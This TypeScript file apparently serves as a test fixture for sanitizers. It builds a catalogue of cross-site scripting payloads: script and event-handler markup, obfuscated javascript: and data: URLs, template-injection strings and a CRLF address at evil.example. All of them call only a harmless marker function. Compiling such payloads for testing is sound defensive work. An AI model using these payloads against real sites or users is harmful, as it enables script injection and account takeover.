// Words that run as a script wherever they are taken for markup (A8). Each of them, run, calls `ran()` on the page.

const RUN = 'top.ran&&top.ran()'

/** Markup that runs by itself or at the first chance. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<script\u0000>${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN.replaceAll('&&', '?').replace('()', '():0')}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img/src=x/onerror="${RUN}"//`,
  `<img src="x\`" onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg/onload="${RUN}"//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<body onload="${RUN}">`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video src=x onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<video><source onerror="${RUN}"></video>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<div style="animation-name:x" onanimationstart="${RUN}"></div><style>@keyframes x{}</style>`,
  `<style>@import "javascript:${RUN}";</style>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:/a/-${RUN}//">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  `<x contenteditable onblur="${RUN}" autofocus tabindex=1>x`,
] as const

/** What a text may have to break out of first. */
const AROUND = ['', '">', "'>", '</textarea>', '</title>', '-->', ']]>', '</style>'] as const

/** Addresses that run when they are followed, or loaded. */
export const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript%3A${RUN}`,
  `javascript://host/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `vbscript:${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `blob:javascript:${RUN}`,
  `//evil.example/%0d%0ax`,
] as const

const ADDRESSED = [
  (to: string) => `[press](${to})`,
  (to: string) => `![picture](${to})`,
  (to: string) => `<${to}>`,
  (to: string) => `[press][1]\n\n[1]: ${to}`,
  (to: string) => `[press](<${to}> "title")`,
  (to: string) => `<a href="${to}">press</a>`,
] as const

/** What templates, style sheets and sheets take for more than words. */
const OTHER = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `{{ _c.constructor('${RUN}')() }}`,
  `v-html="'<img src=x onerror=${RUN}>'"`,
  `[[constructor.constructor('${RUN}')()]]`,
  `\u202E<gnp.tpircs>\u202C`,
  `&lt;img src=x onerror=&quot;${RUN}&quot;&gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D%22${RUN}%22%3E`,
  `\\u003cimg src=x onerror="${RUN}"\\u003e`,
] as const

/** Those that fit where a name does: at most 32 characters. */
export const SHORT = ['<img src=x onerror=top.ran()>', '"><svg onload=top.ran()>', "'><svg/onload=top.ran()>", '<script>top.ran()</script>', 'javascript:top.ran()', '[x](javascript:top.ran())', '{{top.ran()}}', '--><svg onload=top.ran()>'] as const

/** Every payload, each other than all before it. */
export const PAYLOADS: string[] = [
  ...AROUND.flatMap((around) => (around === '' || around === '">' ? MARKUP : MARKUP.filter((_, at) => at % 3 === 0)).map((markup) => around + markup)),
  ...ADDRESSES.flatMap((to) => ADDRESSED.map((around) => around(to))),
  ...OTHER,
].map((payload) => payload.replaceAll('\u0000', '\uFFFD'))
